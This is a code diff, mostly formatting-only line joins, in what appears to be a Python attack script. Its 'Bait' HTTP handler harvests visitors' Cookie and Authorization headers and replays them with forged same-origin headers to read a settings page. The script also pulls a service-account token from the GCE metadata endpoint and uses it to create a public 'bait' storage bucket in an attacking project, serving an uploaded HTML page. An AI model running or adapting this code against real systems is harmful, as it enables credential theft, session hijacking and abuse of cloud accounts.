@@ -90,17 +90,10 @@ class Bait(BaseHTTPRequestHandler):
         body = self.rfile.read(size).decode()
         if self.path == "/report":
             tell("REPORT", json.loads(body))
-        stolen = {
-            name: self.headers[name] for name in ("Cookie", "Authorization") if name in self.headers
-        }
+        stolen = {name: self.headers[name] for name in ("Cookie", "Authorization") if name in self.headers}
         known = {"host": self.headers["Host"], "path": self.path, "from": self.headers["Referer"]}
         tell("HEARD", {**known, "stolen": stolen})
-        forged = {
-            "Origin": REST,
-            "Sec_Fetch_Site": "same-origin",
-            "Host": f"{HOST}:{PORT}",
-            **stolen,
-        }
+        forged = {"Origin": REST, "Sec_Fetch_Site": "same-origin", "Host": f"{HOST}:{PORT}", **stolen}
         place = f"{HOST}:{PORT}"
         got = {
             "settings": ask(place, "GET", "/settings", Accept="text/html", **forged)[0],
@@ -136,10 +129,7 @@ except OSError:
     at_six = 0
 metadata = os.environ["GCE_METADATA_HOST"]
 _, answer = ask(
-    metadata,
-    "GET",
-    "/computeMetadata/v1/instance/service-accounts/default/token",
-    Metadata_Flavor="Google",
+    metadata, "GET", "/computeMetadata/v1/instance/service-accounts/default/token", Metadata_Flavor="Google"
 )
 known = {"Authorization": "Bearer " + json.loads(answer)["access_token"]}
 service = f"{HOST}:{PORT}"
@@ -150,9 +140,7 @@ policy = {"bindings": [{"role": "roles/storage.objectViewer", "members": ["allUs
 opened = "/storage/v1/b/bait/iam"
 upload = "/upload/storage/v1/b/bait/o?uploadType=media&name=page.html"
 laid = [
-    ask(service, "POST", "/storage/v1/b?project=attacking-project", b'{"name": "bait"}', **known)[
-        0
-    ],
+    ask(service, "POST", "/storage/v1/b?project=attacking-project", b'{"name": "bait"}', **known)[0],
     ask(service, "POST", upload, html.encode(), Content_Type="text/html", **known)[0],
     ask(service, "PUT", opened, json.dumps(policy).encode(), **known)[0],
 ]
